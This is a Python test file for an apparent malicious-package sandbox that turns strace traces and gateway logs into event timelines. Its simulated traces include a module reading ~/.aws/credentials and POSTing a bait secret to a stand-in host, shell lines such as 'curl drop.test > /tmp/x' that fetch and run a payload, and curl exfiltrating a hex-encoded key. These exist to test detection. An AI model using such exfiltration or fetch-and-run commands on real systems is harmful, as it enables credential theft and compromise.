"""A whole small run, from a sealed bundle to its events."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from collector import timeline
from collector.bundle import Bundle
from collector.events import NetworkConnect, ProcessExec
from collector.records import ConnectionRecord, DnsRecord, GatewayRecord, HttpRecord, LimitRecord, TlsRecord
from collector.text import render
from tests.collector.bundles import AWS_VALUE, HOME, PYTHON, write_bundle
from tests.collector.traces import COMMANDS, HOOK, Strace, begins, real_phases

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

STRANGER = "203.0.113.9"
INDEX = "198.51.100.7"
SITE = f"{HOME}/.venv/lib/python3.11/site-packages"


def build(path: Path, *traces: Strace, gateway: Sequence[GatewayRecord] = ()) -> timeline.Timeline:
    texts = {trace.phase: trace.text() for trace in traces}
    written = write_bundle(path / "bundle", traces=texts, gateway=gateway, phases=real_phases())
    return timeline.build(Bundle.open(written))


def visit(  # noqa: PLR0913 - what a visit is made of
    trace: Strace, pid: int, conn: int, host: str, ip: str, *, body: bytes = b"", served_by: str = "sinkhole"
) -> list[GatewayRecord]:
    """Look a name up, dial it and send a request by HTTPS; give what the gateway writes meanwhile."""
    trace.connect(pid, "192.0.2.53", 53, protocol="UDP")
    asked = trace.ask(pid, host)
    dialled = trace.connect(pid, ip, 443, result="-1 EINPROGRESS (Operation now in progress)")
    return [
        DnsRecord(ts=asked + 0.0002, peer_port=999, transport="udp", name=host, qtype="A", answers=(ip,)),
        ConnectionRecord(
            ts=dialled + 0.0004, conn=conn, peer_port=4000 + conn, ip=ip, port=443, protocol="tls", ended=dialled + 1
        ),
        TlsRecord(ts=dialled + 0.0005, conn=conn, sni=host),
        HttpRecord(
            ts=dialled + 0.0006,
            conn=conn,
            tls=True,
            method="POST" if body else "GET",
            host=host,
            target="/c",
            body=body,
            size=len(body),
            served_by=served_by,
            status=200,
        ),
    ]


def test_a_run_from_end_to_end(tmp_path: Path) -> None:
    install, later = Strace("install"), Strace("import")
    gateway = visit(install, install.root, 1, "files.example", INDEX, served_by="registry")
    install.write(install.root, f"{SITE}/thing.py")
    module = later.fork(later.root)
    later.read(module, f"{HOME}/.aws/credentials")
    gateway += visit(later, module, 2, "collect.test", STRANGER, body=f"k={AWS_VALUE}".encode())
    later.exit(module)
    result = build(tmp_path, install, later, gateway=gateway)
    lines = [render(event) for event in result.events]
    assert lines == [
        (
            "install installer 202 process.exec"
            f' image={PYTHON} argv=["{PYTHON}","-I","-S","/opt/fumehood/pip_launcher.py","install","--no-deps","--",'
            f'"/opt/artefact/thing-1.0.tar.gz"] cwd={HOME}'
        ),
        "install installer 202 network.connect ip=192.0.2.53 port=53 protocol=udp",
        "install installer 202 network.send ip=192.0.2.53 port=53 size=31",
        f'install installer 202 dns.query name=files.example answers=["{INDEX}"] role=registry',
        f"install installer 202 network.connect ip={INDEX} port=443 host=files.example role=registry said=tls",
        f"install installer 202 tls.hello ip={INDEX} sni=files.example role=registry",
        (
            f"install installer 202 http.request method=GET host=files.example target=/c ip={INDEX} port=443 tls=true"
            " role=registry status=200"
        ),
        f"install installer 202 file.write path={SITE}/thing.py created=true",
        (
            f'import installer 402 process.exec image={PYTHON} argv=["{PYTHON}","-I","-S","/opt/fumehood/importer.py",'
            f'"--result-fd","3","thing"] cwd={HOME}'
        ),
        "import target 403 process.start parent=402",
        f"import target 403 file.read path={HOME}/.aws/credentials",
        "import target 403 network.connect ip=192.0.2.53 port=53 protocol=udp",
        "import target 403 network.send ip=192.0.2.53 port=53 size=30",
        f'import target 403 dns.query name=collect.test answers=["{STRANGER}"]',
        f"import target 403 network.connect ip={STRANGER} port=443 host=collect.test said=tls",
        f"import target 403 tls.hello ip={STRANGER} sni=collect.test",
        (
            f"import target 403 http.request method=POST host=collect.test target=/c ip={STRANGER} port=443 tls=true"
            f' size={len(AWS_VALUE) + 2} body="k={AWS_VALUE}" status=200 bait=["aws-secret-access-key/plain"]'
        ),
        "import target 403 process.exit",
    ]
    assert set(result.traces) == {name for name, argv in COMMANDS.items() if argv}
    assert result.traces["install"].unparsed == 0
    assert all(event.source is not None for event in result.events)


def test_a_connect_among_events_that_were_put_aside_says_what_went_over_it(tmp_path: Path) -> None:
    trace = Strace("import")
    for _ in range(1 << 13):
        trace.read(trace.root, "/etc/passwd")
    gateway = visit(trace, trace.root, 1, "collect.test", STRANGER)
    for _ in range(1 << 13):
        trace.read(trace.root, "/etc/passwd")
    connects = [event for event in build(tmp_path, trace, gateway=gateway).events if isinstance(event, NetworkConnect)]
    assert [(event.port, event.said) for event in connects] == [(53, ""), (443, "tls")]


def test_the_same_bundle_gives_the_same_timeline(tmp_path: Path) -> None:
    trace = Strace("import")
    gateway = visit(trace, trace.fork(trace.root), 1, "collect.test", STRANGER)
    path = write_bundle(tmp_path / "bundle", traces={"import": trace.text()}, gateway=gateway, phases=real_phases())
    first, second = (timeline.build(Bundle.open(path)).events for _ in range(2))
    assert first == second


def test_what_was_not_understood_is_counted(tmp_path: Path) -> None:
    broken = Strace("import")
    broken.lines.append("these are no words of strace")
    headless = Strace("install")
    del headless.lines[-1]
    path = write_bundle(
        tmp_path / "bundle",
        traces={"import": broken.text(), "install": headless.text()},
        gateway=[LimitRecord(ts=begins("import"), what="connections")],
        phases=real_phases(),
    )
    result = timeline.build(Bundle.open(path))
    assert result.traces["import"].unparsed == 1
    assert result.traces["install"].unparsed == result.traces["install"].lines == 4
    assert result.gateway_limits == ("connections",)


def origins(result: timeline.Timeline) -> dict[str, str]:
    return {event.image: event.origin for event in result.events if isinstance(event, ProcessExec)}


def test_console_scripts_that_pip_wrote_are_not_the_packages_writing(tmp_path: Path) -> None:
    install, later = Strace("install"), Strace("exercise")
    for name in ("honest", "changed"):
        install.write(install.root, f"{HOME}/.venv/bin/{name}")
    install.write(install.run(install.root, PYTHON, *HOOK), f"{HOME}/.venv/bin/own")
    install.write(install.run(install.root, PYTHON, *HOOK), f"{HOME}/.venv/bin/changed")
    for name in ("honest", "changed", "own"):
        later.run(later.root, f"{HOME}/.venv/bin/{name}")
    found = origins(build(tmp_path, install, later))
    assert [found[f"{HOME}/.venv/bin/{name}"] for name in ("honest", "changed", "own")] == ["", "written", "written"]


@pytest.mark.parametrize("way", ["itself", "parent", "child", "redirected", "pipeline"])
def test_what_a_stranger_sent_is_downloaded(tmp_path: Path, way: str) -> None:
    trace = Strace("import")
    module = trace.fork(trace.root)
    gateway: list[GatewayRecord] = []
    if way == "itself":
        gateway = visit(trace, module, 1, "drop.test", STRANGER)
        trace.write(module, "/tmp/x")
    elif way == "parent":
        gateway = visit(trace, module, 1, "drop.test", STRANGER)
        trace.write(trace.fork(module), "/tmp/x")
    elif way == "child":
        curl = trace.run(module, "/usr/bin/curl")
        gateway = visit(trace, curl, 1, "drop.test", STRANGER)
        trace.exit(curl)
        trace.write(module, "/tmp/x")
    elif way == "redirected":
        shell = trace.run(module, "/bin/sh", "sh", "-c", "curl drop.test > /tmp/x")
        curl = trace.fork(shell)
        trace.write(curl, "/tmp/x")
        trace.exec(curl, "/usr/bin/curl", ["curl", "drop.test"])
        gateway = visit(trace, curl, 1, "drop.test", STRANGER)
    else:
        shell = trace.run(module, "/bin/sh", "sh", "-c", "curl drop.test | tee /tmp/x")
        curl = trace.run(shell, "/usr/bin/curl", "curl", "drop.test")
        tee = trace.run(shell, "/usr/bin/tee", "tee", "/tmp/x")
        trace.write(tee, "/tmp/x")
        gateway = visit(trace, curl, 1, "drop.test", STRANGER)
    trace.run(module, "/tmp/x")
    assert origins(build(tmp_path, trace, gateway=gateway))["/tmp/x"] == "downloaded"


@pytest.mark.parametrize("way", ["nothing", "registry", "local", "later", "stranger-process", "failed"])
def test_what_nobody_sent_is_only_written(tmp_path: Path, way: str) -> None:
    trace = Strace("import")
    module, other = trace.fork(trace.root), trace.fork(trace.root)
    gateway: list[GatewayRecord] = []
    if way == "registry":
        gateway = visit(trace, module, 1, "files.example", INDEX, served_by="registry")
    elif way == "local":
        trace.connect(module, "127.0.0.1", 8080)
    elif way == "stranger-process":
        gateway = visit(trace, other, 1, "drop.test", STRANGER)
    elif way == "failed":
        trace.connect(module, STRANGER, 443, result="-1 ENETUNREACH (Network is unreachable)")
    trace.write(module, "/tmp/x")
    trace.run(module, "/tmp/x")
    if way == "later":
        gateway = visit(trace, module, 1, "drop.test", STRANGER)
    assert origins(build(tmp_path, trace, gateway=gateway))["/tmp/x"] == "written"


def test_bait_on_a_command_line_is_named(tmp_path: Path) -> None:
    trace = Strace("import")
    pid = trace.run(trace.root, "/usr/bin/curl", "curl", "-d", f"t={AWS_VALUE.encode().hex()}", "http://c.test")
    trace.run(trace.root, "/usr/bin/curl", "curl", "http://c.test")
    found = {event.pid: event.bait for event in build(tmp_path, trace).events if isinstance(event, ProcessExec)}
    assert found.pop(pid) == ("aws-secret-access-key/hex",)
    assert set(found.values()) == {()}
